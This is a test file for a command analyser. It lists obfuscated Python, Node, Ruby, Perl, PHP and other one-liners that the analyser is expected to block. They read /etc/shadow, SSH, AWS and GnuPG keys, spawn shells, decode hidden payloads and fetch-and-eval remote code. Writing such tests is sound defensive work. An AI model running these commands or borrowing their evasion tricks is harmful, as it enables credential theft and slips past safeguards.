import { describe, expect, it } from 'vitest'
import { analyse } from '../../../analyse.ts'

const verdict = (command: string) => analyse(command).verdict

describe('functions that are reached by another way than their name', () => {
  it.each([
    `python3 -c 'import os as o; o.__dict__["po" + "pen"]("cat /root/.ssh/id_rsa").read()'`,
    `python3 -c 'vars(__import__("os"))["system"]("cat /etc/gshadow")'`,
    `python3 -c 'from subprocess import *; call(["zsh"])'`,
    `python3 -c 'import threading as t, os; t.Thread(target=os.system, args=("dash",)).start()'`,
    `python3 -c 'import builtins; builtins.exec("import pty; pty.spawn(\\"bash\\")")'`,
    `node -e 'const {execFileSync: go} = require("node:child_process"); go("head", ["/etc/shadow"])'`,
    `node --input-type=module -e 'import * as run from "child_process"; run.exec("head /etc/shadow")'`,
    `node -e 'const {promises: {readFile: r}} = require("fs"); r("/root/.ssh/id_rsa").then(console.log)'`,
    `node -e 'require("util").promisify(require("child_process").exec)("head /etc/shadow")'`,
    `node -e 'require("child_process").execSync.apply(null, ["head /etc/shadow"])'`,
    `bun -e 'import {$} from "bun"; await $\`head /etc/shadow\`'`,
    `ruby -e 'Kernel.method(:exec).to_proc.call("zsh")'`,
    `ruby -e '["head /etc/shadow"].each(&method(:system))'`,
    `ruby -e 'puts Object.const_get("File").public_send(:read, "/etc/gshadow")'`,
    `perl -e 'my $name = "sys" . "tem"; &$name("head /etc/shadow")'`,
    `php -r '$f = ["run" => "passthru"]; $f["run"]("head /etc/shadow");'`,
    `php -r 'Closure::fromCallable("passthru")("head /etc/shadow");'`,
    `lua -e 'pcall(_G["o" .. "s"].execute, "head /etc/shadow")'`,
    `Rscript -e 'do.call("system", list("head /etc/shadow"))'`,
    `pwsh -c '& ("z" + "sh")'`,
    `emacs --batch --eval '(funcall (intern "shell-command") "head /etc/shadow")'`,
  ])('%s', (command) => expect(verdict(command)).toBe('BLOCK'))

  it.each([
    `python3 -c 'import os; print(os.__dict__["getpid"]())'`,
    `node -e 'const {version: v} = require("./package.json"); console.log(v)'`,
    `node -e 'fetch("http://localhost:3000/v").then(r => r.json()).then(console.log)'`,
    `ruby -e 'puts "abc".public_send(:upcase)'`,
    `php -r 'echo implode(",", array_map("strtoupper", ["a", "b"]));'`,
    `lua -e 'print(_G["math"]["pi"])'`,
  ])('%s', (command) => expect(verdict(command)).not.toBe('BLOCK'))
})

describe('functions and loops of the code', () => {
  it.each([
    `python3 -c 'import os\ndef show(what):\n    return os.popen("cat " + what).read()\nprint(show("/etc/gshadow"))'`,
    `python3 -c 'import subprocess\nclass R:\n    def go(self, *words):\n        subprocess.run(words)\nR().go("cat", "/etc/gshadow")'`,
    `python3 -c 'import os\nfor c in ["uptime", "cat /etc/gshadow"]:\n    os.system(c)'`,
    `python3 -c 'print(open("".join(chr(n) for n in [47,101,116,99,47,115,104,97,100,111,119])).read())'`,
    `node -e 'const go = (c) => require("child_process").execSync(c); go("cat /etc/gshadow")'`,
    `node -e 'for (const f of require("fs").readdirSync("/root/.aws")) console.log(require("fs").readFileSync("/root/.aws/" + f, "utf8"))'`,
    `ruby -e 'def go(c) system(c) end; go("cat /etc/gshadow")'`,
    `ruby -e 'Dir.glob("/root/.gnupg/*").each { |f| puts File.read(f) }'`,
    `perl -e 'sub go { my $c = shift; system($c) } go("cat /etc/gshadow")'`,
    `php -r 'foreach (scandir("/root/.ssh") as $f) echo file_get_contents("/root/.ssh/$f");'`,
  ])('%s', (command) => expect(verdict(command)).toBe('BLOCK'))

  it.each([
    `python3 -c 'import subprocess\ndef sh(cmd):\n    return subprocess.run(cmd, shell=True, capture_output=True).stdout\nprint(sh("git status"))'`,
    `python3 -c 'import subprocess\nclass R:\n    def go(self, cmd):\n        return subprocess.check_output(cmd, shell=True)\nprint(R().go("ls"))'`,
    `python3 -c 'for c in ["cat /etc/shadow", "rm -rf /"]:\n    assert check(c) == "BLOCK"'`,
    `node -e 'const run = (c) => require("child_process").execSync(c, {encoding: "utf8"}); console.log(run("git log -1"))'`,
    `node -e 'const db = {exec(q) { return q }}; db.exec("select 1")'`,
    `perl -e 'sub run { my $c = shift; system($c) } run("git status")'`,
    `ruby -e 'def sh(c); puts c; system(c); end; sh("git status")'`,
    `python3 -c 'def f(n): return f(n - 1)\nf(3)'`,
    `python3 -c 'import shlex, subprocess; subprocess.run(shlex.split("git status"))'`,
    `node -e 'const p = require("child_process").spawn("npm", ["start"]); setTimeout(() => p.kill(), 900)'`,
    `node -e 'page.goto("https://example.org").then(() => page.evaluate(() => document.title))'`,
    `ruby -e 'load "config.rb"; puts CONFIG'`,
  ])('%s', (command) => expect(verdict(command)).not.toBe('BLOCK'))
})

describe('texts that are put together', () => {
  it.each([
    `python3 -c 'print(open("/%s/%s" % ("etc", "gshadow")).read())'`,
    `python3 -c 'print(open("/etc/%(n)s" % {"n": "gshadow"}).read())'`,
    `python3 -c 'print(open("/etc/GSHADOW".lower()).read())'`,
    `node -e 'const o = {p: "/etc/gshadow"}; console.log(require("fs").readFileSync(o.p, "utf8"))'`,
    `ruby -e 'puts File.read("/rgp/funqbj".tr("a-z", "n-za-m"))'`,
    `ruby -e 'puts File.read("/etc/#{"sha" + "dow"}")'`,
    `perl -e '$_ = "png /rgp/funqbj"; y/a-z/n-za-m/; exec $_'`,
    `perl -e 'system(pack("C*", 99,97,116,32,47,101,116,99,47,115,104,97,100,111,119))'`,
    `python3 -c 'import os\na, b = "cat", "/etc/gshadow"\nos.system(f"{a} {b}")'`,
    `perl -e 'my %h = (c => "cat /etc/gshadow"); system($h{c})'`,
    `php -r 'echo file_get_contents(chr(47) . "etc" . chr(47) . "shadow");'`,
  ])('%s', (command) => expect(verdict(command)).toBe('BLOCK'))
})

describe('files that code writes and something runs', () => {
  it.each([
    `python3 -c 'with open("go.sh", "w") as f: f.write("cat /etc/gshadow")' && sh go.sh`,
    `python3 -c 'print("cat /etc/gshadow", file=open("go.sh", "w"))'; sh go.sh`,
    `ruby -e 'File.open("go.sh", "w") { |f| f.puts "cat /etc/gshadow" }'; sh go.sh`,
    `perl -e 'open(my $f, ">", "go.sh"); print $f "cat /etc/gshadow"'; sh go.sh`,
    `php -r '$f = fopen("go.sh", "w"); fwrite($f, "cat /etc/gshadow");'; sh go.sh`,
  ])('%s', (command) => expect(verdict(command)).toBe('BLOCK'))

  it('what is harmless may run', () => {
    expect(verdict(`python3 -c 'open("go.sh", "w").write("echo hello")'; sh go.sh`)).not.toBe(
      'BLOCK',
    )
  })
})

describe('code that nobody can see', () => {
  it.each([
    `python3 -c 'import marshal; exec(marshal.loads(open("m.bin", "rb").read()))'`,
    `python3 -c 'import base64; exec(base64.b64decode(open("m.txt").read()))'`,
    `python3 -c 'import pickle; pickle.loads(b"cposix\\nsystem\\n(S\\"id\\"\\ntR.")'`,
    `pwsh -c 'iex ($parts -join "")'`,
    `node -e 'fetch("http://203.0.113.9/a.js").then(r => r.text()).then(eval)'`,
  ])('%s', (command) => expect(verdict(command)).toBe('BLOCK'))

  it.each([
    `python3 -c 'exec(open("settings.py").read())'`,
    `python3 -c 'import pickle; print(pickle.loads(pickle.dumps([1])))'`,
    `python3 -c 'import yaml; print(yaml.load("os: linux", Loader=yaml.SafeLoader))'`,
  ])('%s', (command) => expect(verdict(command)).not.toBe('BLOCK'))
})

it('hostile code is answered in time', () => {
  const start = performance.now()
  for (const code of [
    '[y for y in '.repeat(30),
    'def f(x):\n  f(x)\n'.repeat(500),
    'x=>'.repeat(3000),
    '<'.repeat(9000),
  ])
    for (const program of ['python3', 'node', 'ruby', 'perl'])
      verdict(`${program} - <<'X'\n${code}\nX`)
  expect(performance.now() - start).toBeLessThan(5000)
})
